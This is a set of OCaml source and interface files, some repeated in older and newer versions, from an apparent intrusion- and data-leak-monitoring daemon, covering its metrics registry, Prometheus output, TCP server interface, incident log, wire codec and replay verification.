type gauge = { g_name : string; g_value : int Atomic.t; g_max : int Atomic.t }

type histogram = {
  h_name : string;
  h_mutex : Mutex.t;
  bounds : float array;  (* upper bounds, strictly increasing *)
  buckets : int array;  (* length = length bounds + 1; last = +inf *)
  mutable h_sum : float;
  mutable h_count : int;
}

type metric =
  | Counter of counter
  | Gauge of gauge
  | Histogram of histogram

type t = {
  mutex : Mutex.t;
  table : (string, metric) Hashtbl.t;
  help : (string, string) Hashtbl.t;
  mutable order : string list;  (* registration order, reversed *)
}

let create () =
  { mutex = Mutex.create ();
    table = Hashtbl.create 32;
    help = Hashtbl.create 32;
    order = [] }

let register ?help t name build unwrap =
  Mutex.lock t.mutex;
  let m =
    match Hashtbl.find_opt t.table name with
    | Some m -> m
    | None ->
        let m = build () in
        Hashtbl.replace t.table name m;
        t.order <- name :: t.order;
        m
  in
  (match help with
  | Some h when not (Hashtbl.mem t.help name) -> Hashtbl.replace t.help name h
  | _ -> ());
  Mutex.unlock t.mutex;
  match unwrap m with
  | Some v -> v
  | None -> invalid_arg (Printf.sprintf "Metrics: %S registered with another type" name)

let counter ?help t name =
  register ?help t name
    (fun () -> Counter { c_name = name; c_value = Atomic.make 0 })
    (function Counter c -> Some c | _ -> None)

let incr ?(by = 1) c = ignore (Atomic.fetch_and_add c.c_value by)
let counter_value c = Atomic.get c.c_value

let gauge ?help t name =
  register ?help t name
    (fun () -> Gauge { g_name = name; g_value = Atomic.make 0; g_max = Atomic.make 0 })
    (function Gauge g -> Some g | _ -> None)

let set_gauge g v =
  Atomic.set g.g_value v;
  (* keep the high-watermark monotone without a lock *)
  let rec bump () =
    let m = Atomic.get g.g_max in
    if v > m && not (Atomic.compare_and_set g.g_max m v) then bump ()
  in
  bump ()

let gauge_value g = Atomic.get g.g_value
let gauge_max g = Atomic.get g.g_max

let default_buckets =
  [| 1e-6; 5e-6; 1e-5; 5e-5; 1e-4; 5e-4; 1e-3; 5e-3; 1e-2; 5e-2; 0.1; 0.5; 1.0 |]

let histogram ?(buckets = default_buckets) ?help t name =
  register ?help t name
    (fun () ->
      Histogram
        {
          h_name = name;
          h_mutex = Mutex.create ();
          bounds = buckets;
          buckets = Array.make (Array.length buckets + 1) 0;
          h_sum = 0.0;
          h_count = 0;
        })
    (function Histogram h -> Some h | _ -> None)

let observe h v =
  Mutex.lock h.h_mutex;
  let n = Array.length h.bounds in
  let rec slot i = if i >= n || v <= h.bounds.(i) then i else slot (i + 1) in
  let i = slot 0 in
  h.buckets.(i) <- h.buckets.(i) + 1;
  h.h_sum <- h.h_sum +. v;
  h.h_count <- h.h_count + 1;
  Mutex.unlock h.h_mutex

let histogram_count h = h.h_count

(* quantile over raw (non-cumulative) buckets, shared by the live
   histogram path and the wire-snapshot path *)
let quantile_of_buckets bounds buckets total q =
  if total = 0 then nan
  else begin
    let target = int_of_float (ceil (q *. float_of_int total)) in
    let target = max 1 (min total target) in
    let acc = ref 0 and ans = ref infinity in
    (try
       Array.iteri
         (fun i n ->
           acc := !acc + n;
           if !acc >= target then begin
             (ans := if i < Array.length bounds then bounds.(i) else infinity);
             raise Exit
           end)
         buckets
     with Exit -> ());
    !ans
  end

let quantile h q =
  Mutex.lock h.h_mutex;
  let result = quantile_of_buckets h.bounds h.buckets h.h_count q in
  Mutex.unlock h.h_mutex;
  result

(* Spans land here through the {!span_exporter} hook: one histogram per
   span name, so Chrome-trace detail and Prometheus aggregates come from
   the same instrumentation points. *)

let sanitize name =
  String.map
    (fun c ->
      match c with 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' -> c | _ -> '_')
    name

let span_exporter t (span : Adprom_obs.Trace.span) =
  let h = histogram t (Printf.sprintf "adprom_span_%s_seconds" (sanitize span.Adprom_obs.Trace.name)) in
  observe h (Int64.to_float span.Adprom_obs.Trace.dur_ns *. 1e-9)

(* ---- snapshots: the mergeable value form of the registry -------------- *)

type hist_snapshot = {
  hs_name : string;
  hs_bounds : float array;
  hs_buckets : int array;  (* raw per-bucket counts, length bounds + 1 *)
  hs_sum : float;
  hs_count : int;
}

type snapshot = {
  counters : (string * int) list;
  gauges : (string * int * int) list;  (* name, value, high-watermark *)
  histograms : hist_snapshot list;
}

let sorted_metrics t =
  Mutex.lock t.mutex;
  (* sorted by name, not registration order: the dump is diffable across
     runs whose shards registered their series in different interleavings *)
  let names = List.sort compare (List.rev t.order) in
  let metrics = List.filter_map (Hashtbl.find_opt t.table) names in
  let help = Hashtbl.copy t.help in
  Mutex.unlock t.mutex;
  (metrics, help)

let snapshot t =
  let metrics, _ = sorted_metrics t in
  let counters = ref [] and gauges = ref [] and histograms = ref [] in
  List.iter
    (function
      | Counter c -> counters := (c.c_name, counter_value c) :: !counters
      | Gauge g -> gauges := (g.g_name, gauge_value g, gauge_max g) :: !gauges
      | Histogram h ->
          Mutex.lock h.h_mutex;
          let hs =
            {
              hs_name = h.h_name;
              hs_bounds = Array.copy h.bounds;
              hs_buckets = Array.copy h.buckets;
              hs_sum = h.h_sum;
              hs_count = h.h_count;
            }
          in
          Mutex.unlock h.h_mutex;
          histograms := hs :: !histograms)
    metrics;
  {
    counters = List.rev !counters;
    gauges = List.rev !gauges;
    histograms = List.rev !histograms;
  }

let hist_quantile hs q =
  quantile_of_buckets hs.hs_bounds hs.hs_buckets hs.hs_count q

let merge_snapshots snaps =
  let ctbl : (string, int) Hashtbl.t = Hashtbl.create 32 in
  let gtbl : (string, int * int) Hashtbl.t = Hashtbl.create 32 in
  let htbl : (string, hist_snapshot) Hashtbl.t = Hashtbl.create 32 in
  List.iter
    (fun s ->
      List.iter
        (fun (name, v) ->
          Hashtbl.replace ctbl name
            (v + Option.value ~default:0 (Hashtbl.find_opt ctbl name)))
        s.counters;
      List.iter
        (fun (name, v, m) ->
          (* per-node gauges (queue depths, watermarks) don't add up
             across nodes: the fleet view keeps the worst case *)
          match Hashtbl.find_opt gtbl name with
          | None -> Hashtbl.replace gtbl name (v, m)
          | Some (pv, pm) -> Hashtbl.replace gtbl name (max pv v, max pm m))
        s.gauges;
      List.iter
        (fun hs ->
          match Hashtbl.find_opt htbl hs.hs_name with
          | None ->
              Hashtbl.replace htbl hs.hs_name
                { hs with
                  hs_bounds = Array.copy hs.hs_bounds;
                  hs_buckets = Array.copy hs.hs_buckets }
          | Some prev when prev.hs_bounds = hs.hs_bounds ->
              Array.iteri
                (fun i n -> prev.hs_buckets.(i) <- prev.hs_buckets.(i) + n)
                hs.hs_buckets;
              Hashtbl.replace htbl hs.hs_name
                { prev with
                  hs_sum = prev.hs_sum +. hs.hs_sum;
                  hs_count = prev.hs_count + hs.hs_count;
                  hs_buckets = prev.hs_buckets }
          | Some _ -> () (* bucket-layout mismatch: keep the first node's *))
        s.histograms)
    snaps;
  let sorted_keys tbl =
    Hashtbl.fold (fun k _ acc -> k :: acc) tbl [] |> List.sort compare
  in
  {
    counters = List.map (fun k -> (k, Hashtbl.find ctbl k)) (sorted_keys ctbl);
    gauges =
      List.map
        (fun k ->
          let v, m = Hashtbl.find gtbl k in
          (k, v, m))
        (sorted_keys gtbl);
    histograms = List.map (Hashtbl.find htbl) (sorted_keys htbl);
  }

let snapshot_counter s name =
  Option.value ~default:0 (List.assoc_opt name s.counters)

let snapshot_histogram s name =
  List.find_opt (fun hs -> hs.hs_name = name) s.histograms

(* ---- Prometheus text exposition --------------------------------------- *)

let fmt_le b = if b = infinity then "+Inf" else Printf.sprintf "%g" b

let dump t =
  let metrics, help = sorted_metrics t in
  let buf = Buffer.create 1024 in
  let meta name kind =
    let h = match Hashtbl.find_opt help name with Some h -> h | None -> name in
    Buffer.add_string buf (Printf.sprintf "# HELP %s %s\n" name h);
    Buffer.add_string buf (Printf.sprintf "# TYPE %s %s\n" name kind)
  in
  List.iter
    (fun m ->
      match m with
      | Counter c ->
          meta c.c_name "counter";
          Buffer.add_string buf (Printf.sprintf "%s %d\n" c.c_name (counter_value c))
      | Gauge g ->
          meta g.g_name "gauge";
          Buffer.add_string buf (Printf.sprintf "%s %d\n" g.g_name (gauge_value g));
          meta (g.g_name ^ "_max") "gauge";
          Buffer.add_string buf
            (Printf.sprintf "%s_max %d\n" g.g_name (gauge_max g))
      | Histogram h ->
          Mutex.lock h.h_mutex;
          let count = h.h_count and sum = h.h_sum in
          let bounds = Array.copy h.bounds and raw = Array.copy h.buckets in
          Mutex.unlock h.h_mutex;
          meta h.h_name "histogram";
          let cumulative = ref 0 in
          Array.iteri
            (fun i n ->
              cumulative := !cumulative + n;
              let le =
                if i < Array.length bounds then fmt_le bounds.(i) else "+Inf"
              in
              (* a scraper needs every cumulative bucket, zero or not *)
              Buffer.add_string buf
                (Printf.sprintf "%s_bucket{le=\"%s\"} %d\n" h.h_name le !cumulative))
            raw;
          Buffer.add_string buf (Printf.sprintf "%s_sum %g\n" h.h_name sum);
          Buffer.add_string buf (Printf.sprintf "%s_count %d\n" h.h_name count))
    metrics;
  Buffer.contents buf

type counter = { c_name : string; c_value : int Atomic.t }
type gauge = { g_name : string; g_value : int Atomic.t; g_max : int Atomic.t }

type histogram = {
  h_name : string;
  h_mutex : Mutex.t;
  bounds : float array;  (* upper bounds, strictly increasing *)
  buckets : int array;  (* length = length bounds + 1; last = +inf *)
  mutable h_sum : float;
  mutable h_count : int;
}

type metric =
  | Counter of counter
  | Gauge of gauge
  | Histogram of histogram

type t = {
  mutex : Mutex.t;
  table : (string, metric) Hashtbl.t;
  mutable order : string list;  (* registration order, reversed *)
}

let create () = { mutex = Mutex.create (); table = Hashtbl.create 32; order = [] }

let register t name build unwrap =
  Mutex.lock t.mutex;
  let m =
    match Hashtbl.find_opt t.table name with
    | Some m -> m
    | None ->
        let m = build () in
        Hashtbl.replace t.table name m;
        t.order <- name :: t.order;
        m
  in
  Mutex.unlock t.mutex;
  match unwrap m with
  | Some v -> v
  | None -> invalid_arg (Printf.sprintf "Metrics: %S registered with another type" name)

let counter t name =
  register t name
    (fun () -> Counter { c_name = name; c_value = Atomic.make 0 })
    (function Counter c -> Some c | _ -> None)

let incr ?(by = 1) c = ignore (Atomic.fetch_and_add c.c_value by)
let counter_value c = Atomic.get c.c_value

let gauge t name =
  register t name
    (fun () -> Gauge { g_name = name; g_value = Atomic.make 0; g_max = Atomic.make 0 })
    (function Gauge g -> Some g | _ -> None)

let set_gauge g v =
  Atomic.set g.g_value v;
  (* keep the high-watermark monotone without a lock *)
  let rec bump () =
    let m = Atomic.get g.g_max in
    if v > m && not (Atomic.compare_and_set g.g_max m v) then bump ()
  in
  bump ()

let gauge_value g = Atomic.get g.g_value
let gauge_max g = Atomic.get g.g_max

let default_buckets =
  [| 1e-6; 5e-6; 1e-5; 5e-5; 1e-4; 5e-4; 1e-3; 5e-3; 1e-2; 5e-2; 0.1; 0.5; 1.0 |]

let histogram ?(buckets = default_buckets) t name =
  register t name
    (fun () ->
      Histogram
        {
          h_name = name;
          h_mutex = Mutex.create ();
          bounds = buckets;
          buckets = Array.make (Array.length buckets + 1) 0;
          h_sum = 0.0;
          h_count = 0;
        })
    (function Histogram h -> Some h | _ -> None)

let observe h v =
  Mutex.lock h.h_mutex;
  let n = Array.length h.bounds in
  let rec slot i = if i >= n || v <= h.bounds.(i) then i else slot (i + 1) in
  let i = slot 0 in
  h.buckets.(i) <- h.buckets.(i) + 1;
  h.h_sum <- h.h_sum +. v;
  h.h_count <- h.h_count + 1;
  Mutex.unlock h.h_mutex

let histogram_count h = h.h_count

let quantile h q =
  Mutex.lock h.h_mutex;
  let total = h.h_count in
  let result =
    if total = 0 then nan
    else begin
      let target = int_of_float (ceil (q *. float_of_int total)) in
      let target = max 1 (min total target) in
      let acc = ref 0 and ans = ref infinity in
      (try
         Array.iteri
           (fun i n ->
             acc := !acc + n;
             if !acc >= target then begin
               (ans := if i < Array.length h.bounds then h.bounds.(i) else infinity);
               raise Exit
             end)
           h.buckets
       with Exit -> ());
      !ans
    end
  in
  Mutex.unlock h.h_mutex;
  result

(* Spans land here through the {!span_exporter} hook: one histogram per
   span name, so Chrome-trace detail and Prometheus aggregates come from
   the same instrumentation points. *)

let sanitize name =
  String.map
    (fun c ->
      match c with 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' -> c | _ -> '_')
    name

let span_exporter t (span : Adprom_obs.Trace.span) =
  let h = histogram t (Printf.sprintf "adprom_span_%s_seconds" (sanitize span.Adprom_obs.Trace.name)) in
  observe h (Int64.to_float span.Adprom_obs.Trace.dur_ns *. 1e-9)

let dump t =
  Mutex.lock t.mutex;
  (* sorted by name, not registration order: the dump is diffable across
     runs whose shards registered their series in different interleavings *)
  let names = List.sort compare (List.rev t.order) in
  let metrics = List.filter_map (Hashtbl.find_opt t.table) names in
  Mutex.unlock t.mutex;
  let buf = Buffer.create 1024 in
  List.iter
    (fun m ->
      match m with
      | Counter c -> Buffer.add_string buf (Printf.sprintf "%s %d\n" c.c_name (counter_value c))
      | Gauge g ->
          Buffer.add_string buf
            (Printf.sprintf "%s %d\n%s_max %d\n" g.g_name (gauge_value g) g.g_name
               (gauge_max g))
      | Histogram h ->
          Mutex.lock h.h_mutex;
          let count = h.h_count and sum = h.h_sum in
          let cumulative = ref 0 in
          Array.iteri
            (fun i n ->
              cumulative := !cumulative + n;
              let le =
                if i < Array.length h.bounds then Printf.sprintf "%g" h.bounds.(i)
                else "+inf"
              in
              if n > 0 || i = Array.length h.bounds then
                Buffer.add_string buf
                  (Printf.sprintf "%s_bucket{le=\"%s\"} %d\n" h.h_name le !cumulative))
            h.buckets;
          Mutex.unlock h.h_mutex;
          Buffer.add_string buf (Printf.sprintf "%s_sum %g\n" h.h_name sum);
          Buffer.add_string buf (Printf.sprintf "%s_count %d\n" h.h_name count))
    metrics;
  Buffer.contents buf

(** A TCP front door for one monitoring daemon — the `adprom serve
    --listen` node of a cluster.

    One single-threaded [select] loop accepts connections and feeds
    their bytes to the daemon's (single-acceptor) ingest path; scoring
    still happens on the daemon's own worker domains. Each connection
    autodetects its wire format from the first two bytes ({!Frame.magic}
    → binary frames, anything else → the {!Transport.Text} line format),
    so `nc` with a text record file and the binary {!Cluster.Router} both
    work against the same port.

    Binary connections speak the full {!Frame} protocol: [Hello] is
    answered with the node's version and name, [Call]/[Query] frames are
    ingested (with an [Ack] sent back every {!ack_interval} accepted
    items as flow feedback), [Metrics_req] is answered with the node's
    {!Metrics.dump}, and [Bye] ends the serve loop — the daemon drains
    and the node replies with its [Summary] frame on that connection.
    Text connections can only stream items; they end at EOF.

    A connection that sends undecodable bytes is closed and counted in
    [adprom_wire_decode_errors_total]; the node keeps serving. *)

val ack_interval : int
(** Items between two [Ack] frames on a binary connection (4096). *)

val bind : ?backlog:int -> ?host:string -> int -> Unix.file_descr * int
(** Bind and listen on [host:port] ([host] defaults to 127.0.0.1); port
    0 picks an ephemeral port, and the actual port is returned. The
    caller owns the socket and passes it to {!serve} — binding
    separately is what lets a test bind port 0 {e before} forking the
    node, so the parent knows the port without a rendezvous. *)

val serve :
  socket:Unix.file_descr ->
  ?name:string ->
  ?shards:int ->
  ?queue_capacity:int ->
  ?keep_verdicts:bool ->
  ?metrics:Metrics.t ->
  ?alerts:Alerts.t ->
  ?vet_against:Analysis.Analyzer.t ->
  ?vet_policy:Adprom.Profile_check.policy ->
  ?static_gate:Daemon.gate_mode ->
  ?qsig_mode:Daemon.qsig_mode ->
  ?qsig_profile:Adprom_qsig.Profile.t ->
  Adprom.Profile.t ->
  Replay.outcome
(** Create the daemon (options as {!Daemon.create}), serve [socket]
    until a [Bye] frame arrives, then drain and return the node's
    outcome — the same shape {!Replay.run} yields, so the CLI prints
    both identically. [name] (default ["node"]) is what the node calls
    itself in [Hello] and [Summary] frames. *)

(** A TCP front door for one monitoring daemon — the `adprom serve
    --listen` node of a cluster.

    One single-threaded [select] loop accepts connections and feeds
    their bytes to the daemon's (single-acceptor) ingest path; scoring
    still happens on the daemon's own worker domains. Each connection
    autodetects its wire format from its first bytes: {!Frame.magic} →
    binary frames, a [GET]/[HEAD] method name → plain HTTP, anything
    else → the {!Transport.Text} line format — so `nc` with a text
    record file, the binary {!Cluster.Router} and `curl` all work
    against the same port.

    The HTTP side is the node's operations plane (one request per
    connection, then close): [GET /metrics] answers the Prometheus text
    exposition ({!Metrics.dump}), [GET /healthz] the {!Health} report as
    JSON (status 503 when [Unhealthy], 200 otherwise), and
    [GET /incidents?n=K] the newest [K] incidents of the {!Alerts} log
    as JSON. Requests are counted in [adprom_http_requests_total].

    Binary connections speak the full {!Frame} protocol: [Hello] is
    answered with the node's version and name, [Call]/[Query] frames are
    ingested (with an [Ack] sent back every {!ack_interval} accepted
    items as flow feedback), [Metrics_req] is answered with the node's
    {!Metrics.dump}, and [Bye] ends the serve loop — the daemon drains
    and the node replies with its [Summary] frame on that connection.
    Text connections can only stream items; they end at EOF.

    A connection that sends undecodable bytes is closed and counted in
    [adprom_wire_decode_errors_total]; the node keeps serving. *)

val ack_interval : int
(** Items between two [Ack] frames on a binary connection (4096). *)

val bind : ?backlog:int -> ?host:string -> int -> Unix.file_descr * int
(** Bind and listen on [host:port] ([host] defaults to 127.0.0.1); port
    0 picks an ephemeral port, and the actual port is returned. The
    caller owns the socket and passes it to {!serve} — binding
    separately is what lets a test bind port 0 {e before} forking the
    node, so the parent knows the port without a rendezvous. *)

val serve :
  socket:Unix.file_descr ->
  ?name:string ->
  ?version:int ->
  ?shards:int ->
  ?queue_capacity:int ->
  ?keep_verdicts:bool ->
  ?metrics:Metrics.t ->
  ?alerts:Alerts.t ->
  ?vet_against:Analysis.Analyzer.t ->
  ?vet_policy:Adprom.Profile_check.policy ->
  ?static_gate:Daemon.gate_mode ->
  ?qsig_mode:Daemon.qsig_mode ->
  ?qsig_profile:Adprom_qsig.Profile.t ->
  ?qsig_static_gate:Daemon.gate_mode ->
  Adprom.Profile.t ->
  Replay.outcome
(** Create the daemon (options as {!Daemon.create}), serve [socket]
    until a [Bye] frame arrives, then drain and return the node's
    outcome — the same shape {!Replay.run} yields, so the CLI prints
    both identically. [name] (default ["node"]) is what the node calls
    itself in [Hello] and [Summary] frames.

    [version] (default {!Frame.protocol_version}) caps the node's wire
    version: the decoder rejects newer-stamped frames and the hello
    reply announces it, so [~version:1] reproduces an old build's
    behaviour for version-skew testing. A clock sample rides on the
    hello reply only when both sides speak ≥ 2.
    @raise Invalid_argument when [version] is outside
    [1..Frame.protocol_version]. *)

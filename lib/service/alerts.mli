(** Unified incident log: the security administrator's single queue.

    Two alarm channels land here in one timestamp-ordered stream — the
    Detection Engine's actionable verdicts ([Data_leak] and
    [Out_of_context] flags) and the run-level {!Adprom.Audit} findings
    (unknown query signatures, tainted-file shell commands). Recording
    is safe from multiple domains; ordering is by a global atomic
    sequence number assigned at record time. *)

type source =
  | Verdict of {
      window_index : int;
      verdict : Adprom.Detector.verdict;
      explanation : Adprom.Scoring.explanation option;
          (** why the gate fired — attached by the daemon for every
              recorded verdict, rendered by {!incident_to_string} *)
    }
  | Finding of Adprom.Audit.finding
  | Query_verdict of {
      query_index : int;  (** 0-based index in the session's query stream *)
      sql : string;
      verdict : Adprom_qsig.Engine.verdict;
    }  (** the query-signature axis fired on one executed query *)

type axis = Sequence_axis | Query_axis
(** Which detection axis an incident belongs to: the call-sequence HMM
    (plus the findings derived from the same instrumentation stream) or
    the query-signature engine. *)

val axis_of_source : source -> axis
val axis_to_string : axis -> string

type fused = No_alarm | Sequence_only | Query_only | Both_axes
(** Two-axis fusion of a session's incidents: which axes fired. *)

val fused_to_string : fused -> string

type incident = { seq : int; time : float; session : int; source : source }

type t

val create : ?clock:(unit -> float) -> unit -> t
(** [clock] defaults to [Unix.gettimeofday] (injectable for tests). *)

val record_verdict :
  ?explanation:Adprom.Scoring.explanation ->
  t ->
  session:int ->
  window_index:int ->
  Adprom.Detector.verdict ->
  bool
(** Record the verdict if its flag is [Data_leak] or [Out_of_context];
    returns whether an incident was logged ([Normal]/[Anomalous] are
    the detector's business, not the administrator's queue). *)

val record_finding : t -> session:int -> Adprom.Audit.finding -> unit

val record_query_verdict :
  t ->
  session:int ->
  query_index:int ->
  sql:string ->
  Adprom_qsig.Engine.verdict ->
  bool
(** Record a query-axis verdict if it is anomalous; returns whether an
    incident was logged. *)

val fused_axes : t -> session:int -> fused
(** Which detection axes have fired for [session] so far. *)

val incidents : t -> incident list
(** All incidents, timestamp-ordered (ascending [seq]). *)

val count : t -> int

val source_to_string : source -> string
(** The incident's payload rendered without its [seq]/[time] header —
    the stable part a cluster node ships in its summary frame (sequence
    numbers and timestamps are per-node and never comparable). *)

val incident_to_string : incident -> string
val to_string : t -> string

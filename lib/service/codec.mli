(** Wire format of the monitoring daemon: one tagged call event per
    line, [session<TAB>caller<TAB>block<TAB>symbol], with the symbol in
    the {!Runtime.Trace_io} encoding. This is what a deployed Calls
    Collector ships over the wire — the per-process trace format plus a
    session id (the PID Dyninst reports).

    Decoding is total: malformed input yields [Error "line N: ..."]
    (1-based line numbers), never an exception. Blank lines, CRLF
    endings and [#] comment lines are tolerated. *)

type event = Adprom.Sessions.tagged = {
  session : int;
  event : Runtime.Collector.event;
}

val encode_event : event -> string
(** One line, without the trailing newline. *)

val parse_line : string -> (event, string) result
(** Parse one wire line (no line-number context; {!decode} adds it). *)

val encode : event array -> string

val decode : string -> (event array, string) result

val save : event array -> string -> unit

val load : string -> (event array, string) result

(** Wire format of the monitoring daemon: one tagged call event per
    line, [session<TAB>caller<TAB>block<TAB>symbol], with the symbol in
    the {!Runtime.Trace_io} encoding. This is what a deployed Calls
    Collector ships over the wire — the per-process trace format plus a
    session id (the PID Dyninst reports).

    Decoding is total: malformed input yields [Error "line N: ..."]
    (1-based line numbers), never an exception. Blank lines, CRLF
    endings and [#] comment lines are tolerated. *)

type event = Adprom.Sessions.tagged = {
  session : int;
  event : Runtime.Collector.event;
}

type query = { q_session : int; rows : int; sql : string }
(** An executed-query record for the query-signature axis:
    [q<TAB>session<TAB>rows<TAB>sql] on the wire. [rows] is the result
    cardinality the DBMS reported; [sql] is the executed text with
    parameters bound (it may itself contain tabs — only the first three
    fields split). *)

type item = Call of event | Query of query
(** One wire line of a mixed stream: call events interleaved with
    executed queries. *)

val encode_event : event -> string
(** One line, without the trailing newline. *)

val encode_query : query -> string

val encode_item : item -> string

val parse_line : string -> (event, string) result
(** Parse one wire line (no line-number context; {!decode} adds it). *)

val parse_query_line : string -> (query, string) result

val is_query_line : string -> bool
(** True when the line carries a {!query} ([q<TAB>...] prefix). *)

val encode : event array -> string

val encode_items : item array -> string

val decode : string -> (event array, string) result
(** Call events only. Query lines are skipped, so pre-query consumers
    keep decoding mixed streams unchanged; use {!decode_mixed} to see
    both. *)

val decode_mixed : string -> (item array, string) result

val save : event array -> string -> unit

val load : string -> (event array, string) result

(** Compatibility surface of the pre-redesign wire API.

    The line format itself now lives in {!Transport.Text} (one
    [encode]/[decode] pair behind the common {!Transport.S} signature,
    next to the binary {!Frame.T}); this module keeps the historical
    per-kind entry points as thin aliases so existing callers and
    recorded streams keep working. New code should program against
    {!Transport.S} and pick the wire format at the edge.

    Decoding is total: malformed input yields [Error "line N: ..."]
    (1-based line numbers), never an exception. Blank lines, CRLF
    endings and [#] comment lines are tolerated. *)

type event = Transport.event = {
  session : int;
  event : Runtime.Collector.event;
}

type query = Transport.query = { q_session : int; rows : int; sql : string }
(** An executed-query record for the query-signature axis:
    [q<TAB>session<TAB>rows<TAB>sql] on the wire. [rows] is the result
    cardinality the DBMS reported — negative counts are rejected at
    parse time (a corrupt cardinality would silently skew the qsig
    bands); [sql] is the executed text with parameters bound (it may
    itself contain tabs — only the first three fields split). *)

type item = Transport.item = Call of event | Query of query
(** One wire line of a mixed stream: call events interleaved with
    executed queries. *)

val encode_event : event -> string
(** Deprecated alias of {!Transport.Text.encode_line} on a [Call];
    one line, without the trailing newline. *)

val encode_query : query -> string
(** Deprecated alias — {!Transport.Text.encode_line} on a [Query]. *)

val encode_item : item -> string
(** Deprecated alias of {!Transport.Text.encode_line}. *)

val parse_line : string -> (event, string) result
(** Deprecated alias of {!Transport.Text.parse_event_line} (no
    line-number context; {!decode} adds it). *)

val parse_query_line : string -> (query, string) result
(** Deprecated alias of {!Transport.Text.parse_query_line}. *)

val is_query_line : string -> bool
(** True when the line carries a {!query} ([q<TAB>...] prefix). *)

val encode : event array -> string

val encode_items : item array -> string
(** Alias of {!Transport.encode_all} over {!Transport.Text}. *)

val decode : string -> (event array, string) result
(** Call events only. Query lines are validated, then skipped, so
    pre-query consumers keep decoding mixed streams unchanged; use
    {!decode_mixed} to see both. *)

val decode_mixed : string -> (item array, string) result
(** Alias of {!Transport.decode_all} over {!Transport.Text}. *)

val save : event array -> string -> unit

val load : string -> (event array, string) result

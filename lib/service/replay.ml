module Detector = Adprom.Detector
module Sessions = Adprom.Sessions

type outcome = {
  summary : Daemon.summary;
  seconds : float;
  metrics : Metrics.t;
  alerts : Alerts.t;
  events_tail : Adprom_obs.Log.event list;
}

let finish daemon t0 =
  let summary =
    Adprom_obs.Trace.with_span "daemon.drain" (fun () -> Daemon.drain daemon)
  in
  let seconds = Unix.gettimeofday () -. t0 in
  {
    summary;
    seconds;
    metrics = Daemon.metrics daemon;
    alerts = Daemon.alerts daemon;
    events_tail = Daemon.recent_events daemon;
  }

let run ?shards ?queue_capacity ?keep_verdicts ?metrics ?alerts ?vet_against
    ?vet_policy ?static_gate ?qsig_mode ?qsig_profile ?qsig_static_gate profile
    stream =
  let daemon =
    Daemon.create ?shards ?queue_capacity ?keep_verdicts ?metrics ?alerts
      ?vet_against ?vet_policy ?static_gate ?qsig_mode ?qsig_profile
      ?qsig_static_gate profile
  in
  let t0 = Unix.gettimeofday () in
  Array.iter (fun ev -> ignore (Daemon.ingest daemon ev)) stream;
  finish daemon t0

let run_items ?shards ?queue_capacity ?keep_verdicts ?metrics ?alerts
    ?vet_against ?vet_policy ?static_gate ?qsig_mode ?qsig_profile
    ?qsig_static_gate profile items =
  let daemon =
    Daemon.create ?shards ?queue_capacity ?keep_verdicts ?metrics ?alerts
      ?vet_against ?vet_policy ?static_gate ?qsig_mode ?qsig_profile
      ?qsig_static_gate profile
  in
  let t0 = Unix.gettimeofday () in
  Array.iter (fun it -> ignore (Daemon.ingest_item daemon it)) items;
  finish daemon t0

let of_text ?shards ?queue_capacity ?keep_verdicts ?qsig_mode ?qsig_profile
    profile text =
  match qsig_mode with
  | None | Some Daemon.Qsig_off -> (
      (* plain decode drops query lines, so the event stream — and with
         it every sequence verdict — is bit-for-bit the pre-qsig one *)
      match
        Adprom_obs.Trace.with_span "codec.decode" (fun () -> Codec.decode text)
      with
      | Error e -> Error e
      | Ok stream ->
          Ok (run ?shards ?queue_capacity ?keep_verdicts profile stream))
  | Some _ -> (
      match
        Adprom_obs.Trace.with_span "codec.decode" (fun () ->
            Codec.decode_mixed text)
      with
      | Error e -> Error e
      | Ok items ->
          Ok
            (run_items ?shards ?queue_capacity ?keep_verdicts ?qsig_mode
               ?qsig_profile profile items))

let throughput o =
  if o.seconds > 0.0 then
    float_of_int o.summary.Daemon.events_ingested /. o.seconds
  else 0.0

type mismatch = {
  session : int;
  window_index : int;
  batch : Detector.flag option;  (* None: window missing on that side *)
  live : Detector.flag option;
}

let verify_against_batch profile stream summary =
  let batch_by_session = Sessions.demux stream in
  let mismatches = ref [] in
  List.iter
    (fun (r : Daemon.session_report) ->
      let batch_flags =
        (* deliberately the uncompiled specification path: a divergence
           in the live engine (interning, memo, ring) cannot hide behind
           the same bug on the batch side *)
        match List.assoc_opt r.Daemon.session batch_by_session with
        | Some trace ->
            let window = profile.Adprom.Profile.params.Adprom.Profile.window in
            List.map
              (fun w -> (Detector.reference_classify profile w).Detector.flag)
              (Adprom.Window.of_trace ~window trace)
        | None -> []
      in
      let live_flags = List.map (fun v -> v.Detector.flag) r.Daemon.verdicts in
      let rec cmp i b l =
        match (b, l) with
        | [], [] -> ()
        | bf :: b', lf :: l' ->
            if bf <> lf then
              mismatches :=
                {
                  session = r.Daemon.session;
                  window_index = i;
                  batch = Some bf;
                  live = Some lf;
                }
                :: !mismatches;
            cmp (i + 1) b' l'
        | bf :: b', [] ->
            mismatches :=
              { session = r.Daemon.session; window_index = i; batch = Some bf; live = None }
              :: !mismatches;
            cmp (i + 1) b' []
        | [], lf :: l' ->
            mismatches :=
              { session = r.Daemon.session; window_index = i; batch = None; live = Some lf }
              :: !mismatches;
            cmp (i + 1) [] l'
      in
      cmp 0 batch_flags live_flags)
    summary.Daemon.sessions;
  List.rev !mismatches

let mismatch_to_string m =
  let f = function Some fl -> Detector.flag_to_string fl | None -> "(missing)" in
  Printf.sprintf "session %d window %d: batch=%s live=%s" m.session m.window_index
    (f m.batch) (f m.live)

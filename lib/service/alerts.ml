module Detector = Adprom.Detector
module Audit = Adprom.Audit

type source =
  | Verdict of {
      window_index : int;
      verdict : Detector.verdict;
      explanation : Adprom.Scoring.explanation option;
    }
  | Finding of Audit.finding

type incident = { seq : int; time : float; session : int; source : source }

type t = {
  mutex : Mutex.t;
  seq : int Atomic.t;
  mutable incidents_rev : incident list;
  clock : unit -> float;
}

let create ?(clock = Unix.gettimeofday) () =
  { mutex = Mutex.create (); seq = Atomic.make 0; incidents_rev = []; clock }

let record t ~session source =
  let incident =
    { seq = Atomic.fetch_and_add t.seq 1; time = t.clock (); session; source }
  in
  Mutex.lock t.mutex;
  t.incidents_rev <- incident :: t.incidents_rev;
  Mutex.unlock t.mutex

let record_verdict ?explanation t ~session ~window_index verdict =
  match verdict.Detector.flag with
  | Detector.Data_leak | Detector.Out_of_context ->
      record t ~session (Verdict { window_index; verdict; explanation });
      true
  | Detector.Normal | Detector.Anomalous -> false

let record_finding t ~session finding = record t ~session (Finding finding)

let incidents t =
